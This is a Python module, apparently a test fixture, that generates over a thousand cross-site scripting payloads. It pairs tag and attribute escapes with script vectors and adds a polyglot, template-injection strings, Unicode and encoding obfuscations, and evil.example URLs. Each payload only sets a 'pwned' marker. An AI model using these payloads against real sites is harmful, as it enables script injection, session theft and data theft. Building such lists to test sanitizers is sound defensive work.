"""Texts that try to become a script: ways out of every context of a page, times ways to run code."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

#: A text that is a script in many contexts at once.
POLYGLOT = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=@ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=@//>\\x3e"
)
#: Ways out of an element, an attribute, a comment, a script or a template.
ESCAPES = (
    "", '">', "'>", "</title>", "</textarea>", "</pre></div>", "</script>", "-->", "</svg>", "]]>", "</style>",
    "</option></select>", "</td></tr></table>", "</a>", "</main>", '\\">', "`>", '" x="', "</time>", "</summary>",
)  # fmt: skip
#: Ways to run code. `@` stands for a script.
VECTORS = (
    "<script>@</script>", "<ScRiPt>@</sCrIpT>", "<script/x>@</script>",
    "<script src='data:text/javascript,@'></script>",
    "<script\n>@</script\n>", "<img src=x onerror=@>", "<img/src=x/onerror=@>", "<img src=`x` onerror=@>",
    '<img """><script>@</script>">', "<image src=x onerror=@>", "<svg onload=@>", "<svg/onload=@>",
    "<svg><script>@</script></svg>", "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<svg><set onbegin=@ attributename=x>", "<svg><a xlink:href='javascript:@'><text y=9>x</text></a></svg>",
    "<svg><foreignObject><script>@</script></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=@></style></mglyph></table></mtext></math>",
    "<math><a xlink:href='javascript:@'>x</a></math>", "<body onload=@>", "<body onpageshow=@>",
    "<details open ontoggle=@>x</details>", "<video><source onerror=@></video>", "<video src=x onerror=@></video>",
    "<audio src=x onerror=@>", "<input autofocus onfocus=@>", "<select autofocus onfocus=@></select>",
    "<textarea autofocus onfocus=@></textarea>", "<marquee onstart=@>x</marquee>",
    "<iframe src='javascript:@'></iframe>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>", "<object data='javascript:@'></object>",
    "<embed src='javascript:@'>", "<a href='javascript:@' autofocus>x</a>", "<a href='java\tscript:@'>x</a>",
    "<a href='&#106;avascript:@'>x</a>", "<form action='javascript:@'><button autofocus>x</button></form>",
    "<button formaction='javascript:@'>x</button>", "<meta http-equiv=refresh content='0;url=javascript:@'>",
    "<base href='javascript:@//'>", "<link rel=stylesheet href='data:text/css,*{background:url(javascript:@)}'>",
    "<style>@import 'javascript:@';</style>", "<div style='background:url(javascript:@)'>x</div>",
    "<template><script>@</script></template><script>@</script>",
    "<noscript><p title='</noscript><img src=x onerror=@>'>",
    "<xmp><p title='</xmp><img src=x onerror=@>'></xmp>", "<portal src='javascript:@'></portal>",
    "<keygen autofocus onfocus=@>", "<x contenteditable autofocus onfocus=@>", "<style onload=@></style>",
)  # fmt: skip
#: Texts for which a way out makes no sense: attributes, URLs, JSON, templates, encodings and other tricks of Unicode.
OTHERS = (
    '" onmouseover="@" x="', "' onmouseover='@' x='", '" autofocus onfocus="@" x="', "' autofocus onfocus='@' x='",
    '" style="animation-name:x" onanimationstart="@', "` onerror=`@", "javascript:@", " javascript:@", "JaVaScRiPt:@",
    "java\tscript:@", "javascript://%0a@", "\x01javascript:@", "data:text/html,<script>@</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:@", "//evil.example/@",
    "\\\\evil.example\\@",
    "https://evil.example/?@", '"}];@;//', "'};@;//", "\\u003cscript\\u003e@\\u003c/script\\u003e", "\\x3cscript\\x3e@",
    "{{ @ }}", "{{constructor.constructor('@')()}}", "{% @ %}", "{{ ''.__class__.__mro__ }}", "{# @ #}", "${@}", "#{@}",
    "<%= @ %>", "[[@]]", "{{{@}}}", "&lt;script&gt;@&lt;/script&gt;", "&#60;script&#62;@&#60;/script&#62;",
    "&#x3c;script&#x3e;@", "%3Cscript%3E@%3C/script%3E", "+ADw-script+AD4-@+ADw-/script+AD4-",
    "\uff1cscript\uff1e@\uff1c/script\uff1e", "\u02bcscript\u02bd@", "\u202e<script>@</script>",
    "\u2066<img src=x onerror=@>",
    "<scr\u00adipt>@</scr\u00adipt>", "<\u0130mg src=x onerror=@>", "<\u017fcript>@</\u017fcript>",
    "\ufeff<script>@</script>",
    "<script\u2028>@</script>", "<b\x0bonclick=@>", "e\u0301" * 40 + "<script>@</script>",
    "\U0001f600<script>@</script>",
    "\u0000<script>@</script>", "</scr</script>ipt><script>@</script>", "<<script>@//<</script>", "<script>@<!--",
    POLYGLOT,
)  # fmt: skip


def payloads() -> Iterator[str]:
    """More than a thousand texts, each of which would set `pwned` on the page."""
    number = 0
    for number, (escape, vector) in enumerate(product(ESCAPES, VECTORS)):
        yield escape + vector.replace("@", f"self.pwned={number}")
    for more, text in enumerate(OTHERS, number + 1):
        yield text.replace("@", f"self.pwned={more}")
